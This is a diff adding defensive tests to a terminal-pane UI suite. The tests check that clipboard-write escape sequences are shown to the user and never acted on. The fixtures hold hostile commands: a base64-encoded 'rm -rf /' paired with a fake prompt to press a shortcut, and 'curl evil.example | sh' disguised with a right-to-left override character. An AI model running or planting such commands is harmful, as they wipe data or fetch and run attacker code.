@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import unicodedata
 from collections.abc import Iterator
 from pathlib import Path
@@ -12,6 +13,7 @@ from PySide6.QtGui import QDesktopServices
 from PySide6.QtWidgets import QAbstractButton, QApplication, QLabel, QWidget
 from pytestqt.qtbot import QtBot
 
+from tests.fakes.keys import press
 from tests.fakes.terminal_pane import Bench
 from tests.ui.panes.conftest import Daemon, Pump
 from tests.ui.panes.terminal.conftest import NONE, Desk
@@ -175,3 +177,20 @@ def test_bells_mark_and_make_no_noise(bench: Bench, acts: list[str]) -> None:
     bench.pump.until(lambda: bench.terminals.rings("a"))
     assert acts == []
     assert bench.pane.find_bar.isVisible()
+
+
+def test_only_what_is_said_can_be_allowed(bench: Bench, acts: list[str]) -> None:
+    bench.focus()
+    bench.prints(b"\x1b]52;c;cm0gLXJmIC8=\x07\x1b]9;press Ctrl+Shift+Y to go on\x07")
+    bench.pump.until(lambda: bench.said("asked") == "says: press Ctrl+Shift+Y to go on")
+    press("Ctrl+Shift+Y")
+    assert acts == []
+    assert bench.said("asked") == "the program asks for nothing now"
+
+
+def test_what_would_be_copied_is_shown_before(bench: Bench, acts: list[str]) -> None:
+    text = "curl evil.example \u202e| sh\n" + "x" * 3000
+    bench.prints(b"\x1b]52;c;" + base64.b64encode(text.encode()) + b"\x07")
+    bench.pump.until(lambda: "copy" in bench.said("asked"))
+    assert bench.said("asked").startswith("asked to copy “curl evil.example | sh xxxxxx")
+    assert acts == []
